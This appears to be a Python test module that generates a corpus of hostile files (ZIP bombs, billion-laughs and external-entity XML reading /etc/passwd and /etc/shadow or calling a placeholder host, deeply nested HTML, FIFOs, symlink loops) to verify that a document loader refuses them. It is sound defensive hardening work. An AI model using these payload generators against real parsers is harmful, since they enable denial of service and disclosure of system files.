"""A corpus of hostile files, each with the words its LoadError must contain.

Run ``python -m tests.stress.hostile`` to print the table in docs/reliability.md (case, message,
seconds).
"""

from __future__ import annotations

import io
import os
import struct
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests import factories

W_NS = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SENTENCES = (
    "The deal was agreed in Iran this month, officials said. Production could begin "
    "within months, according to the report. "
)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: how to make it, and what its refusal must say (any of ``expect``)."""

    name: str
    build: Callable[[Path], Path]
    expect: tuple[str, ...]
    loads: bool = False  # a safe file in a hostile disguise: it must load, offline


def _bomb(
    folder: Path,
    name: str,
    member: str,
    *,
    mb: int,
    first: tuple[str, str] | None,
    fill: bytes = b"\0",
) -> Path:
    path = folder / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        if first:
            archive.writestr(first[0], first[1], compress_type=zipfile.ZIP_STORED)
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(member, "w", force_zip64=True) as handle:
            block = fill * (1024 * 1024)
            for _ in range(mb):
                handle.write(block)
    return path


def docx_bomb(folder: Path) -> Path:
    """word/document.xml inflates to 1 GiB of zeros from about 1 MB."""
    return _bomb(folder, "bomb.docx", "word/document.xml", mb=1024, first=None)


def odt_bomb(folder: Path) -> Path:
    """An ODT (mimetype first) whose content.xml inflates to 300 MB of spaces."""
    return _bomb(
        folder,
        "bomb.odt",
        "content.xml",
        mb=300,
        fill=b" ",
        first=("mimetype", "application/vnd.oasis.opendocument.text"),
    )


def ratio_bomb(folder: Path) -> Path:
    """A genuine DOCX plus a 60 MB part that packs 1000:1, under every absolute size limit."""
    path = factories.make_docx(folder, "ratio.docx")
    return factories.replace_member(
        path, "word/media/padding.xml", b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"
    )


def forged_size_bomb(folder: Path) -> Path:
    """A DOCX whose document.xml says it holds 100 bytes but inflates to 50 MB."""
    path = _bomb(folder, "forged.docx", "word/document.xml", mb=50, first=None)
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(signature)
        while at >= 0:
            name_len = struct.unpack_from("<H", data, at + (28 if offset == 24 else 26))[0]
            start = at + (46 if offset == 24 else 30)
            if data[start : start + name_len] == b"word/document.xml":
                struct.pack_into("<I", data, at + offset, 100)
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))
    return path


def _laughs(root: str, body: str) -> bytes:
    entities = "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY lol "lol">{entities}]>\n'
        + body.replace("TEXT", "&lol9;")
    ).encode()


def _docx_body(text: str) -> str:
    return (
        f'<w:document xmlns:w="{W_NS.decode()}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r>'
        "</w:p></w:body></w:document>"
    )


def _odt_body(text: str) -> str:
    return (
        f"<office:document-content {factories.ODT_NS}><office:body><office:text>"
        f"<text:p>{text}</text:p></office:text></office:body></office:document-content>"
    )


def _html_body(text: str) -> str:
    return (
        f"<html><head><title>Drone deal</title></head><body><article><p>{SENTENCES}{text}"
        f"</p><p>{SENTENCES}</p></article></body></html>"
    )


def _external(root: str, body: str, url: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY ext SYSTEM "{url}">]>\n'
        + body.replace("TEXT", "&ext;")
    ).encode()


def docx_laughs(folder: Path) -> Path:
    path = factories.make_docx(folder, "laughs.docx")
    return factories.replace_member(
        path, "word/document.xml", _laughs("w:document", _docx_body("TEXT"))
    )


def odt_laughs(folder: Path) -> Path:
    return factories.make_odt(
        folder, "laughs.odt", content=_laughs("office:document-content", _odt_body("TEXT")).decode()
    )


def html_laughs(folder: Path) -> Path:
    path = folder / "laughs.html"
    path.write_bytes(_laughs("html", _html_body("TEXT")))
    return path


def docx_xxe_file(folder: Path) -> Path:
    path = factories.make_docx(folder, "xxe-file.docx")
    return factories.replace_member(path, "word/document.xml", factories.XXE)


def docx_xxe_http_footnotes(folder: Path) -> Path:
    """The external entity hides in footnotes.xml, a part python-docx never parses."""
    path = factories.make_docx(folder, "xxe-http.docx")
    body = (
        f'<w:footnotes xmlns:w="{W_NS.decode()}"><w:footnote w:id="1"><w:p><w:r><w:t>TEXT'
        "</w:t></w:r></w:p></w:footnote></w:footnotes>"
    )
    return factories.replace_member(
        path, "word/footnotes.xml", _external("w:footnotes", body, "http://203.0.113.9/x")
    )


def docx_xxe_utf16(folder: Path) -> Path:
    """The same attack in UTF-16, which byte searches for '<!ENTITY' would miss."""
    path = factories.make_docx(folder, "xxe-utf16.docx")
    xml = _external("w:document", _docx_body("TEXT"), "file:///etc/passwd").decode()
    xml = xml.replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>', 1)
    return factories.replace_member(path, "word/document.xml", xml.encode("utf-16"))


def odt_xxe_http(folder: Path) -> Path:
    return factories.make_odt(
        folder,
        "xxe.odt",
        content=_external(
            "office:document-content", _odt_body("TEXT"), "http://203.0.113.9/evil.dtd"
        ).decode(),
    )


def odt_xxe_meta(folder: Path) -> Path:
    """The entity is in meta.xml; content.xml is clean."""
    path = factories.make_odt(folder, "xxe-meta.odt")
    body = (
        f"<office:document-meta {factories.ODT_NS}><office:meta><dc:title>TEXT</dc:title>"
        "</office:meta></office:document-meta>"
    )
    return factories.replace_member(
        path, "meta.xml", _external("office:document-meta", body, "file:///etc/shadow")
    )


def html_xxe(folder: Path) -> Path:
    path = folder / "xxe.html"
    page = _html_body("TEXT &web;").replace("TEXT", "&ext;")
    path.write_text(
        '<!DOCTYPE html [<!ENTITY ext SYSTEM "file:///etc/passwd">'
        '<!ENTITY web SYSTEM "http://203.0.113.9/x">]>\n' + page
    )
    return path


def xhtml_doctype(folder: Path) -> Path:
    """A real-world XHTML page whose DOCTYPE names a DTD on the web: loads, fetches nothing."""
    path = folder / "xhtml.html"
    path.write_text(
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD '
        'XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
        + _html_body("").replace("<html>", '<html xmlns="http://www.w3.org/1999/xhtml">')
    )
    return path


def text_200mb(folder: Path) -> Path:
    """200 MB of prose, written in 1 MB chunks."""
    path = folder / "huge.txt"
    chunk = (SENTENCES * (1024 * 1024 // len(SENTENCES) + 1))[: 1024 * 1024].encode()
    with path.open("wb") as handle:
        for _ in range(200):
            handle.write(chunk)
    return path


def sparse_200mb(folder: Path) -> Path:
    """A 200 MB sparse file (a disk image renamed .md): costs no disk, reads as zeros."""
    path = folder / "sparse.md"
    with path.open("wb") as handle:
        handle.write(SENTENCES.encode())
        handle.truncate(200 * 1024 * 1024)
    return path


def deep_html(folder: Path) -> Path:
    path = folder / "deep.html"
    path.write_text(
        "<html><body>" + "<div>" * 100_000 + SENTENCES + "</div>" * 100_000 + "</body></html>"
    )
    return path


def empty_pages_pdf(folder: Path) -> Path:
    return factories.make_pdf(folder, "pages.pdf", empty_pages=3000)


def blank_pdf(folder: Path) -> Path:
    """999 empty pages and no text at all: under the page limit, nothing to read."""
    return factories.make_pdf(folder, "blank.pdf", empty_pages=998, text=False)


def cyrillic_name(folder: Path) -> Path:
    """A healthy file whose name has Cyrillic, spaces, both quote kinds and a dash."""
    return factories.make_txt(
        folder, 'Отчёт «ТАСС» о "сделке" — it\'s final.txt', factories.news_text()
    )


def cyrillic_bomb(folder: Path) -> Path:
    path = docx_bomb(folder)
    return path.rename(folder / "Доклад \"ООН\" 'черновик'.docx")


def folder_named_docx(folder: Path) -> Path:
    path = folder / "report.docx"
    path.mkdir()
    (path / "word").mkdir()
    return path


def fifo(folder: Path) -> Path:
    path = folder / "pipe.txt"
    os.mkfifo(path)
    return path


def device(folder: Path) -> Path:
    path = folder / "endless.txt"
    path.symlink_to("/dev/zero")
    return path


def link_loop(folder: Path) -> Path:
    path = folder / "loop.md"
    path.symlink_to(path)
    return path


def program_named_txt(folder: Path) -> Path:
    """The first 64 KB of the Python interpreter, renamed notes.txt."""
    path = folder / "notes.txt"
    with open(sys.executable, "rb") as handle:
        path.write_bytes(handle.read(65536))
    return path


def unclosed_markdown(folder: Path) -> Path:
    """Paragraphs of unclosed emphasis, comments and links (quadratic for lazy regexes)."""
    path = folder / "markup.md"
    lines = ["**a " * 50_000, "*a " * 60_000, "_a " * 60_000, "<!--a " * 30_000, "[a](" * 50_000]
    path.write_text("Unclosed markup\n\n" + "\n\n".join(lines) + "\n", encoding="utf-8")
    return path


def too_many_parts(folder: Path) -> Path:
    path = folder / "parts.docx"
    source = factories.make_docx(folder, "parts-source.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        for index in range(6000):
            dst.writestr(f"extra/part{index}.xml", "<a/>")
    return path


CASES = (
    Hostile("ZIP bomb: DOCX, 1 GiB of zeros", docx_bomb, ("ZIP bomb",)),
    Hostile("ZIP bomb: ODT, 300 MB of spaces", odt_bomb, ("ZIP bomb",)),
    Hostile("ZIP bomb: 1000:1 part under the size limits", ratio_bomb, ("ZIP bomb",)),
    Hostile("ZIP bomb: forged sizes in the headers", forged_size_bomb, ("damaged", "ZIP bomb")),
    Hostile("too many parts (6,000 members)", too_many_parts, ("too many parts",)),
    Hostile("billion laughs: DOCX", docx_laughs, ("XML entities",)),
    Hostile("billion laughs: ODT", odt_laughs, ("XML entities",)),
    Hostile("billion laughs: HTML", html_laughs, ("XML entities",)),
    Hostile("external entity file://: DOCX", docx_xxe_file, ("XML entities",)),
    Hostile(
        "external entity http:// in DOCX footnotes", docx_xxe_http_footnotes, ("XML entities",)
    ),
    Hostile("external entity in UTF-16 XML: DOCX", docx_xxe_utf16, ("XML entities",)),
    Hostile("external entity http://: ODT", odt_xxe_http, ("XML entities",)),
    Hostile("external entity file:// in ODT meta.xml", odt_xxe_meta, ("XML entities",)),
    Hostile("external entities file:// and http://: HTML", html_xxe, ("XML entities",)),
    Hostile("XHTML DOCTYPE naming a DTD on the web", xhtml_doctype, (), loads=True),
    Hostile("200 MB text file", text_200mb, ("too large",)),
    Hostile("200 MB sparse file named .md", sparse_200mb, ("too large",)),
    Hostile("HTML nested 100,000 levels", deep_html, ("nested too deeply",)),
    Hostile("PDF with 3,000 empty pages", empty_pages_pdf, ("too many pages",)),
    Hostile("PDF with 999 empty pages, no text", blank_pdf, ("no text layer",)),
    Hostile("Cyrillic name with spaces and quotes", cyrillic_name, (), loads=True),
    Hostile("ZIP bomb with a Cyrillic, quoted name", cyrillic_bomb, ("ZIP bomb",)),
    Hostile("a folder named report.docx", folder_named_docx, ("folder",)),
    Hostile("a FIFO named .txt", fifo, ("not a regular file",)),
    Hostile("a link to /dev/zero named .txt", device, ("not a regular file",)),
    Hostile("a symbolic link to itself", link_loop, ("points to itself",)),
    Hostile("a program named .txt", program_named_txt, ("program",)),
    Hostile(
        "Markdown: 1 MB of unclosed emphasis, comments, links", unclosed_markdown, (), loads=True
    ),
)


def print_table() -> None:
    """Build every case in a temporary folder, load it, print a Markdown table."""
    from desktop.core.errors import LoadError
    from desktop.core.loaders import load_document

    print("| case | message | seconds |\n|---|---|---|")
    for case in CASES:
        with tempfile.TemporaryDirectory() as folder:
            path = case.build(Path(folder))
            started = time.perf_counter()
            try:
                doc = load_document(path)
                message = f"loads ({len(doc.statements)} statements)"
            except LoadError as exc:
                message = str(exc)
            elapsed = time.perf_counter() - started
        print(f"| {case.name} | {message} | {elapsed:.2f} |")


if __name__ == "__main__":
    print_table()
